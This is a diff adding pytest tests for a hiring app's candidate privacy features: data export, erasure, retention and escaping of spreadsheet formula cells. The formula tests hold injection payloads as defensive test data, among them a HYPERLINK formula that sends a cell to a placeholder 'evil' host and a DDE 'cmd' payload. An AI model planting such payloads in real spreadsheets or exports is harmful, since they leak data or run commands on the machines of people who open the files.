@@ -1,0 +1,152 @@
+"""Candidate data protection: export, erasure, retention; spreadsheet-formula neutralising."""
+
+import json
+from datetime import timedelta
+
+import pandas as pd
+import pytest
+from sqlmodel import select
+
+from models import (
+    AuditEvent,
+    Candidate,
+    ConsensusScore,
+    Decision,
+    FirstInterviewScore,
+    Interview,
+    PanelMember,
+    Score,
+    Scorecard,
+    utcnow,
+)
+from services import consensus, decisions, positions, privacy, settings
+from services.exports_safety import neutralise_cell, neutralise_frame
+from tests.apptest import all_text, app_as
+from tests.conftest import count
+
+NOTE = "Mentioned a sick parent in confidence"
+
+
+def exists(session, candidate_id: int) -> bool:
+    session.expunge_all()
+    return session.exec(select(Candidate).where(Candidate.id == candidate_id)).first() is not None
+
+
+@pytest.fixture
+def held(session, make):
+    """Cara with everything that can be held on a candidate; Dan beside her, untouched."""
+    manager = make.user("hiring_manager", name="Hana Manager")
+    pia, paul = make.user(name="Pia Panel"), make.user(name="Paul Panel")
+    position = make.position(manager=manager, title="Backend Engineer")
+    cara = make.candidate(position, name="Cara Candidate", first_interview_notes=NOTE)
+    dan = make.candidate(position, name="Dan Candidate")
+    iv = make.interview(cara, [pia, paul])
+    make.scorecard(iv, pia, [3, 3, 3, 3], "yes", evidence=NOTE)
+    make.scorecard(make.interview(dan, [pia, paul]), paul, [4, 4, 4, 4], "yes")
+    viewer = make.viewer(manager)
+    crit = positions.criteria_of(session, positions.current_template(session, position.id).id)[0]
+    decisions.record_decision(session, viewer, {"candidate_id": cara.id, "outcome": "hold",
+                                                "rationale": NOTE})
+    consensus.record_consensus(session, viewer, {"candidate_id": cara.id,
+                                                 "criterion_id": crit.id, "value": 3,
+                                                 "note": NOTE})
+    session.add(FirstInterviewScore(candidate_id=cara.id, criterion_id=crit.id, value=3,
+                                    note=NOTE))
+    session.commit()
+    return {"cara": cara, "dan": dan, "iv": iv, "recruiter": make.user("recruiter")}
+
+
+def test_export_holds_everything_on_the_candidate_as_json(session, make, held):
+    data = privacy.export_candidate(session, make.viewer(held["recruiter"]), held["cara"].id)
+    text = json.dumps(data)
+    assert data["candidate"]["name"] == "Cara Candidate"
+    assert data["candidate"]["first_interview_notes"] == NOTE
+    card = data["interviews"][0]["scorecards"][0]
+    assert card["panelist"] == "Pia Panel" and card["scores"][0]["evidence"] == NOTE
+    assert data["decisions"][0]["rationale"] == NOTE
+    assert data["consensus"][0]["note"] == NOTE
+    assert data["first_interview_scores"][0]["note"] == NOTE
+    assert any(e["action"] == "scorecard_submitted" for e in data["audit"])
+    assert "Dan Candidate" not in text
+    assert session.exec(select(AuditEvent).where(
+        AuditEvent.action == "candidate_exported")).first() is not None
+
+
+def test_erasure_removes_everything_and_keeps_only_the_fact(session, make, held):
+    cid = held["cara"].id
+    counts = privacy.erase_candidate(session, make.admin, cid)
+    assert counts["scorecards"] == 1 and counts["interviews"] == 1
+    session.expire_all()
+    assert session.get(Candidate, cid) is None
+    for model in (Decision, ConsensusScore, FirstInterviewScore):
+        assert session.exec(select(model).where(model.candidate_id == cid)).first() is None
+    assert session.exec(select(Interview).where(Interview.candidate_id == cid)).first() is None
+    assert count(session, Scorecard) == 1 and count(session, PanelMember) == 2
+    assert count(session, Score) == 4  # Dan's
+    rows = session.exec(select(AuditEvent).where(AuditEvent.candidate_id == cid)).all()
+    erased = [r for r in rows if r.action == "candidate_erased"]
+    assert len(erased) == 1
+    dump = json.dumps([r.detail for r in rows])
+    assert NOTE not in dump and "Cara" not in dump
+    assert all(r.detail == privacy.audit.REDACTED for r in rows if r.action != "candidate_erased")
+    assert session.get(Candidate, held["dan"].id) is not None
+
+
+def test_retention_lists_candidates_past_it(session, make, held):
+    admin = make.admin
+    assert privacy.past_retention(session, admin).empty  # default 365 days, all recent
+    old = session.get(Candidate, held["dan"].id)
+    old.created_at = utcnow() - timedelta(days=400)
+    session.add(old)
+    for iv in session.exec(select(Interview).where(Interview.candidate_id == old.id)).all():
+        iv.scheduled_at = utcnow() - timedelta(days=380)
+        session.add(iv)
+    session.commit()
+    assert privacy.past_retention(session, admin)["name"].tolist() == ["Dan Candidate"]
+    settings.update_settings(session, admin, {"retention_days": "0"})
+    assert privacy.past_retention(session, admin).empty
+
+
+def test_recruiter_exports_from_the_page_and_cannot_erase(session, held):
+    at = app_as(held["recruiter"].id, "pages/privacy.py")
+    assert not at.exception
+    assert not at.get("expander") or "Erase" not in all_text(at)
+    at.selectbox(key="privacy_candidate").select(held["cara"].id).run()
+    at.button(key="privacy_export").click().run()
+    assert not at.exception
+    assert at.get("download_button")
+
+
+def test_admin_erases_only_after_typing_the_confirmation(session, make, held):
+    admin = make.user("admin")
+    at = app_as(admin.id, "pages/privacy.py")
+    at.selectbox(key="privacy_candidate").select(held["cara"].id).run()
+    at.button(key="privacy_erase").click().run()
+    assert "type ERASE to confirm" in all_text(at)
+    assert exists(session, held["cara"].id)
+    at.text_input(key="privacy_confirm").input("ERASE")
+    at.button(key="privacy_erase").click().run()
+    assert not at.exception
+    assert not exists(session, held["cara"].id)
+
+
+@pytest.mark.parametrize("value", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx",
+                                   '=HYPERLINK("http://evil/?"&A1)'])
+def test_formula_cells_are_neutralised(value):
+    assert neutralise_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Cara", "", "a=b", -3, 2.5, None])
+def test_other_cells_are_kept(value):
+    assert neutralise_cell(value) == value
+
+
+def test_a_frame_is_neutralised_in_text_columns_and_names_only():
+    frame = pd.DataFrame({"name": ["=cmd|' /C calc'!A0", "Dan"], "score": [-1.5, 3.0],
+                          "=evil": ["x", "@y"]})
+    out = neutralise_frame(frame)
+    assert out["name"].tolist() == ["'=cmd|' /C calc'!A0", "Dan"]
+    assert out["score"].tolist() == [-1.5, 3.0]
+    assert list(out.columns) == ["name", "score", "'=evil"]
+    assert out["'=evil"].tolist() == ["x", "'@y"]
+    assert frame["name"].iloc[0].startswith("=")  # the input is left as it was
